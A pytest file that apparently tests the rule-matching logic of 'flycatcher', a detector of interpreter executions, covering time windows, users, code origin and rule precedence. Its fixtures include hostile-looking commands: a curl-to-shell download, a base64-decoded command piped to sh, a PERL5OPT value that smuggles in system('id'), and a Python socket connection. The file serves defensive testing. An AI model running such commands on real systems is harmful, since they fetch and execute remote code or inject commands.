"""The parts of a decision: times, users, origins, and how much must have been seen before anything is allowed."""

from __future__ import annotations

import datetime as dt

import pytest
from msgspec import structs

from flycatcher.core.detection import Detection, Policy, detect
from flycatcher.core.execution import Execution, Fidelity, Process
from flycatcher.core.payload.model import CRASHED
from flycatcher.core.policy.decide import first, holds, is_whole, may, origins
from flycatcher.core.policy.rule import Match, Rule, RuleAction
from flycatcher.core.shell import read_shell
from flycatcher.policies import Policies

LATER = dt.date(2099, 1, 1)


def rule(action: RuleAction = "report", name: str = "r", **match: object) -> Rule:
    return Rule(name=name, action=action, match=Match(**match), reason="was looked at", owner="a", until=LATER)  # type: ignore[arg-type]


def found(*argv: str, **facts: object) -> Detection:
    detection = detect(Execution(argv=argv or ("python3", "-c", "print(1)"), **facts))  # type: ignore[arg-type]
    assert detection is not None
    return detection


def of_shell(text: str) -> Detection:
    return next(each for each in map(detect, read_shell(text).executions) if each is not None)


@pytest.mark.parametrize(
    ("hours", "time", "inside"),
    [
        ("08:00-17:00", "2026-11-30T07:59:59Z", False),
        ("08:00-17:00", "2026-11-30T08:00:00Z", True),
        ("08:00-17:00", "2026-11-30T16:59:00Z", True),
        ("08:00-17:00", "2026-11-30T17:00:00Z", False),
        ("22:00-06:00", "2026-11-30T21:59:00Z", False),
        ("22:00-06:00", "2026-11-30T22:00:00Z", True),
        ("22:00-06:00", "2026-11-30T05:59:00Z", True),
        ("22:00-06:00", "2026-11-30T06:00:00Z", False),
        ("00:00-00:00", "2026-11-30T12:00:00Z", True),
        ("08:00-17:00", "2026-11-30T07:00:00-02:00", True),
        ("08:00-17:00", "no time", False),
        ("00:00-00:00", "", False),
    ],
)
def test_hours_are_those_of_utc_from_the_first_minute_up_to_the_second(hours: str, time: str, *, inside: bool) -> None:
    assert holds(rule(hours=hours), found(fidelity=Fidelity(time=time))) is inside


@pytest.mark.parametrize(
    "day", list(enumerate(("mon", "tue", "wed", "thu", "fri", "sat", "sun"))), ids=lambda day: day[1]
)
def test_every_day_is_its_own(day: tuple[int, str]) -> None:
    at = [holds(rule(days=(day[1],)), found(fidelity=Fidelity(time=f"2026-12-0{n}T12:00:00Z"))) for n in range(1, 8)]
    assert at == [(n + 1) % 7 == day[0] for n in range(7)]  # 2026-12-01 is a Tuesday
    assert not holds(rule(days=(day[1],)), found())


def test_a_user_is_known_by_name_or_number_and_nobody_is_no_user() -> None:
    assert holds(rule(user=("root", "0")), found(process=Process(uid=0)))
    assert holds(rule(user=("ann",)), found(context={"user.name": "ann"}, process=Process(uid=7)))
    assert holds(rule(user=("7",)), found(context={"user.name": "ann"}, process=Process(uid=7)))
    assert not holds(rule(user=("ann",)), found(process=Process(uid=7)))
    assert not holds(rule(user=("",)), found())
    assert not holds(rule(user=("None",)), found(process=Process()))


@pytest.mark.parametrize(
    ("detection", "expected"),
    [
        (found(), ["inline"]),
        (found(context={"text.written": "Makefile:3"}), ["file"]),
        (found("python3", "-", stdin="pipe"), ["unseen"]),
        (of_shell("curl https://x.example/i | sh"), ["network"]),
        (of_shell("echo aWQ= | base64 -d | sh"), ["decoded"]),
    ],
    ids=["inline", "file", "unseen", "network", "decoded"],
)
def test_where_each_text_comes_from(detection: Detection, expected: list[str]) -> None:
    assert origins(detection) == expected
    for origin in ("inline", "file", "unseen", "network", "decoded"):
        assert holds(rule(origin=(origin,)), detection) is (origin in expected)


STDIN = {"stdin": "pipe", "stdin_text": "print(1)"}


def test_only_what_was_seen_to_its_end_is_whole() -> None:
    assert is_whole(found())
    assert is_whole(found("python3", "-", **STDIN, fidelity=Fidelity(stdin="whole")))
    assert not is_whole(found("python3", "-", **STDIN, fidelity=Fidelity(stdin="partial")))
    assert not is_whole(found("python3", "-", **STDIN, fidelity=Fidelity(stdin="not captured")))
    assert not is_whole(found("python3", "-", stdin="pipe"))
    crashed = found()
    notes = tuple(structs.replace(each, notes=(CRASHED,)) for each in crashed.analyses)
    assert not is_whole(structs.replace(crashed, analyses=notes))


def test_a_rule_allows_only_what_was_seen_whole_and_others_act_on_all() -> None:
    whole, unseen = found(), found("python3", "-", stdin="pipe")
    crashed = structs.replace(whole, analyses=tuple(structs.replace(each, notes=(CRASHED,)) for each in whole.analyses))
    for action in ("report", "deny", "kill", "capture"):
        assert may(rule(action, user=("x",)), unseen)  # type: ignore[arg-type]
    assert may(rule("allow", user=("x",)), whole)
    assert not may(rule("allow", user=("x",)), unseen)
    assert not may(rule("allow", user=("x",)), crashed)
    assert may(rule("allow", id=(crashed.id,)), crashed)
    assert not may(rule("allow", id=(unseen.id,)), unseen)


def test_a_list_of_a_rule_that_allows_names_all_and_of_others_one() -> None:
    both = found("python3", "-c", "1", env={"PERL5OPT": "-Mstrict;system('id')"})
    assert {snippet.interpreter for snippet in both.snippets} == {"python", "perl"}
    assert not holds(rule("allow", interpreter=("python",)), both)
    assert holds(rule("allow", interpreter=("python", "perl")), both)
    assert holds(rule("deny", interpreter=("python",)), both)
    assert not holds(rule("deny", interpreter=("ruby",)), both)


def test_a_capability_is_one_of_those_named_and_only_is_all_of_them() -> None:
    acts = found("python3", "-c", "import os, socket; os.system('id'); socket.create_connection(('192.0.2.1', 9))")
    assert holds(rule(capability=("network.*",)), acts)
    assert not holds(rule(capability=("persistence.*",)), acts)
    assert not holds(rule(only=("network.*",)), acts)
    assert holds(rule(only=("*",)), acts)


def test_the_first_of_the_rules_in_force_decides_and_is_counted() -> None:
    rules = [
        rule("deny", "no", interpreter=("perl",)),
        rule("report", "a", interpreter=("python",)),
        rule("kill", "b", at_least="none"),
    ]
    decided = first(rules, found())
    assert decided is not None
    assert decided.name == "a"
    policies = Policies((), rules)
    policies.outcome(found())
    policies.outcome(found("perl", "-e", "1"))
    assert policies.hits == {"a": 1, "no": 1}
    assert policies.stops()
    assert not Policies((), rules[1:2]).stops()


@pytest.mark.parametrize(
    ("action", "before", "expected"),
    [
        ("report", Policy(reason="a"), Policy(reason="rule r: was looked at (a)", rule="r")),
        (
            "report",
            Policy(reason="a", capture=True),
            Policy(reason="a; rule r: was looked at (a)", rule="r", capture=True),
        ),
        ("capture", Policy(reason="a"), Policy(reason="a; rule r: was looked at (a)", rule="r")),
        ("report", Policy(capture=True), Policy(reason="rule r: was looked at (a)", rule="r", capture=True)),
        ("deny", Policy(), Policy(reason="was not refused here: rule r: was looked at (a)", rule="r")),
        ("kill", Policy(), Policy(reason="was not killed here: rule r: was looked at (a)", rule="r")),
        ("deny", Policy("denied", "b"), Policy("denied", "b; rule r: was looked at (a)", rule="r")),
        ("report", Policy("denied", "b"), Policy("denied", "b")),
    ],
)
def test_what_was_done_before_is_kept_beside_what_a_rule_says(
    action: RuleAction, before: Policy, expected: Policy
) -> None:
    policies = Policies((), [rule(action, interpreter=("python",))])
    assert policies.outcome(structs.replace(found(), policy=before)) == expected


def test_the_figures_say_of_which_rules_nobody_takes_notice() -> None:
    rules = [rule("allow", "a", user=("x",), at_most="low"), rule("deny", "d", user=("x",))]
    told = {
        ignores: [("ignored" in each) for each in Policies((), rules, ignores=ignores).figures().values()]
        for ignores in (True, False)
    }
    assert told == {True: [False, False], False: [True, False]}
